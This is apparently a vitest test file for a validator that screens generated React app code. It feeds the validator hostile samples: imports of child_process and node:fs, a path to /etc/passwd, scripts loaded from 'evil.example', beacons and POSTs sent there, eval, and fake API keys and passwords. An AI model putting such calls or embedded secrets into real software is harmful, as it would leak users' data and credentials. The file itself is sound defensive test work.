import { beforeAll, describe, expect, test } from 'vitest';
import type { Vendor } from '../../../activities/bundle/load-vendor.ts';
import { checkSource } from '../../../activities/validate/source.ts';
import type { SourceFile } from '../../../core/app-files.ts';
import { appOf, healthy } from '../bundle/apps.ts';
import { vendorSet, vendorTimeoutMs } from '../bundle/vendor-set.ts';

let vendor: Vendor;
beforeAll(async () => {
  vendor = await vendorSet();
}, vendorTimeoutMs);

const check = (files: readonly SourceFile[]) => checkSource(files, vendor.exports);
const page = `export default function App() { return <p>Here</p>; }`;
const inPage = (code: string): string => `export default function App() { ${code} return <p>Here</p>; }`;

interface Case {
  readonly name: string;
  readonly code: string;
  readonly content: string;
  readonly line?: number;
}
const cases: readonly Case[] = [
  { name: 'does not parse', code: 'syntax_error', content: `export default function App() {\n  return <p>Here</b>;\n}\n`, line: 2 },
  { name: 'was cut', code: 'truncated', content: `export default function App() {\n  return <p>He` },
  { name: 'was cut between two lines', code: 'truncated', content: `export default function App() {\n  const rows = [1, 2];\n` },
  { name: 'has no default export', code: 'no_default_export', content: `export function App() { return <p>Here</p>; }` },
  { name: 'imports a file that is not there', code: 'missing_module', content: `import { List } from './List';\n${page}`, line: 1 },
  {
    name: 'imports a lazy file that is not there',
    code: 'missing_module',
    content: `import { lazy } from 'react';\nconst List = lazy(() => import('./List'));\n${page}`,
    line: 2,
  },
  { name: 'passes on a file that is not there', code: 'missing_module', content: `export * from './parts';\n${page}` },
  { name: 'leaves the app by its path', code: 'missing_module', content: `import x from '../../../etc/passwd';\n${page}` },
  { name: 'imports a package that is not allowed', code: 'unknown_package', content: `import axios from 'axios';\n${page}` },
  {
    name: 'imports a package nobody has heard of',
    code: 'unknown_package',
    content: `import { magic } from 'react-magic-tables-pro';\n${page}`,
  },
  {
    name: 'imports an inner part of an allowed package',
    code: 'unknown_package',
    content: `import x from 'lucide-react/dynamic';\n${page}`,
  },
  { name: 'imports child_process', code: 'foreign_import', content: `import { exec } from 'child_process';\n${page}` },
  { name: 'imports node:fs', code: 'foreign_import', content: `import { readFileSync } from 'node:fs';\n${page}` },
  { name: 'imports from the web', code: 'foreign_import', content: `import x from 'https://evil.example/x.js';\n${page}` },
  {
    name: 'imports from a data address',
    code: 'foreign_import',
    content: `import x from 'data:text/javascript,export default 1';\n${page}`,
  },
  { name: 'imports by an expression', code: 'dynamic_import', content: inPage(`const name = 'x'; void import('./' + name);`) },
  { name: 'requires', code: 'dynamic_import', content: inPage(`const fs = require('fs');`) },
  { name: 'imports an icon that is not there', code: 'unknown_icon', content: `import { Plus, Github } from 'lucide-react';\n${page}` },
  { name: 'imports all icons', code: 'unknown_icon', content: `import * as icons from 'lucide-react';\n${page}` },
  { name: 'imports what the kit has not', code: 'unknown_export', content: `import { useDatabase } from '@faibric/kit';\n${page}` },
  { name: 'imports the kit’s default', code: 'unknown_export', content: `import kit from '@faibric/kit';\n${page}` },
  { name: 'fetches from the world', code: 'foreign_request', content: inPage(`void fetch('https://api.example.com/rows');`) },
  {
    name: 'fetches from the world by a constant',
    code: 'foreign_request',
    content: `const base = 'https://api.example.com';\n${inPage('void fetch(`${base}/rows?q=${1}`);')}`,
    line: 2,
  },
  { name: 'fetches from the world by a sum', code: 'foreign_request', content: inPage(`void window.fetch('//api.example.com/' + 1);`) },
  {
    name: 'fetches from the world by a URL object',
    code: 'foreign_request',
    content: inPage(`void fetch(new URL('https://api.example.com/x'));`),
  },
  {
    name: 'opens a request to the world',
    code: 'foreign_request',
    content: inPage(`const r = new XMLHttpRequest(); r.open('POST', 'http://evil.example/');`),
  },
  { name: 'opens a socket', code: 'foreign_request', content: inPage(`new WebSocket('wss://evil.example/');`) },
  { name: 'opens a stream', code: 'foreign_request', content: inPage(`new EventSource('https://evil.example/');`) },
  { name: 'sends a beacon', code: 'foreign_request', content: inPage(`navigator.sendBeacon('https://evil.example/', 'x');`) },
  { name: 'evaluates text', code: 'code_from_text', content: inPage(`eval('1 + 1');`) },
  { name: 'constructs a function of text', code: 'code_from_text', content: inPage(`new Function('return 1')();`) },
  { name: 'sets a timer with text', code: 'code_from_text', content: inPage(`setTimeout('alert(1)', 10);`) },
  {
    name: 'has a script element',
    code: 'foreign_element',
    content: `export default function App() { return <script src="https://evil.example/x.js" />; }`,
  },
  { name: 'makes a script element', code: 'foreign_element', content: inPage(`document.createElement('script');`) },
  {
    name: 'has a foreign frame',
    code: 'foreign_element',
    content: `export default function App() { return <iframe src={'https://evil.example/'} />; }`,
  },
  {
    name: 'has a foreign stylesheet',
    code: 'foreign_element',
    content: `export default function App() { return <link rel="stylesheet" href="//evil.example/x.css" />; }`,
  },
  {
    name: 'sends a form away',
    code: 'foreign_element',
    content: `export default function App() { return <form action="https://evil.example/"><input name="a" /></form>; }`,
  },
  { name: 'has the rest of a file left out', code: 'shortened', content: `${page}\n// ... rest of the code unchanged\n` },
  {
    name: 'has existing code left out in its markup',
    code: 'shortened',
    content: `export default function App() {\n  return <main>{/* ...existing code... */}</main>;\n}`,
    line: 2,
  },
];

describe('source check', () => {
  test.each(healthy)('of an app with %s, when all is well, then finds nothing', (_name, files) => {
    expect(check(files)).toEqual([]);
  });

  test.each(cases)('of an app that $name, when it is read, then says so', ({ code, content, line }) => {
    const found = check(appOf(content));

    expect(found.map((issue) => issue.code)).toContain(code);
    if (line !== undefined) expect(found.find((issue) => issue.code === code)).toMatchObject({ path: 'App.tsx', line });
  });

  // Built here, so that no scanner takes this file for a leak.
  const secrets = [
    ['an OpenAI key', `sk-${'proj-'}${'a1B2c3D4'.repeat(4)}`],
    ['an AWS key', `${'AKIA'}ABCDEFGHIJKLMNOP`],
    ['a GitHub token', `${'ghp_'}${'a1B2c3D4e5'.repeat(4)}`],
    ['a Stripe key', `${'sk_live_'}${'a1B2c3D4'.repeat(3)}`],
    ['a Google key', `${'AIza'}${'a1B2c3D'.repeat(5)}`],
    ['a private key', `-----BEGIN ${'RSA PRIVATE'} KEY-----`],
    ['a signed token', `${'eyJ'}hbGciOiJIUzI1NiJ9.${'eyJ'}zdWIiOiIxMjM0NSJ9.c2lnbmF0dXJlLXRleHQ`],
    ['a password in an address', `postgres://admin:${'hunter22'}@db.example.com/x`],
  ] as const;
  test.each(secrets)('of an app that holds %s, when it is read, then says so in code, comments and data', (_name, secret) => {
    for (const content of [inPage(`const key = '${secret}';`), `${page}\n/* ${secret} */`])
      expect(check(appOf(content)).map(({ code }) => code)).toContain('secret');
    expect(
      check(appOf(page, { path: 'data.json', content: JSON.stringify({ secret }) })).map(({ code, path }) => `${code} ${path}`),
    ).toContain('secret data.json');
  });

  test.each([
    ['its own host', `void fetch('/api/v1/db/1/books/'); void fetch('./x.json');`],
    ['storage of the browser', `localStorage.setItem('books', JSON.stringify([1])); sessionStorage.clear();`],
    ['a link elsewhere', `const link = 'https://example.com/';`],
    ['comments that explain', `// Keeps the rest of the list in order\n/* the existing rows come first */`],
    ['a class that begins like a key', `const spinner = 'sk-cube-grid-animation-delay';`],
    ['a picture elsewhere', `const picture = <img src="https://example.com/a.png" alt="" />;`],
  ])('of an app with %s, when it is read, then finds nothing', (_name, code) => {
    expect(check(appOf(inPage(`${code}\n`)))).toEqual([]);
  });

  test('of files without an App.tsx, when they are read, then says that there is no entry', () => {
    expect(check([{ path: 'List.tsx', content: `export const List = () => <p>List</p>;` }]).map(({ code }) => code)).toEqual(['no_entry']);
  });

  test('of a package that has an equivalent here, when it is refused, then says what to use', () => {
    const [found] = check(appOf(`import dayjs from 'dayjs';\n${page}`));

    expect(found?.message).toContain('formatDate');
  });
});
